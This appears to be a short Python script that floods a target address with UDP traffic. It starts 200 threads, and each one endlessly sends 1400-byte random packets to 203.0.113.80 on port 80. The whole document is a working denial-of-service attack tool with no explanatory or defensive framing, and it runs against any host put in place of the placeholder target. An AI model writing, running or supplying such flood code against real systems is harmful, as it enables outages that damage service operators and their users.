import socket, random, threading
target = ("203.0.113.80", 80)
def hammer():
    while True:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(1000):
            s.sendto(random.randbytes(1400), target)
for _ in range(200):
    threading.Thread(target=hammer).start()
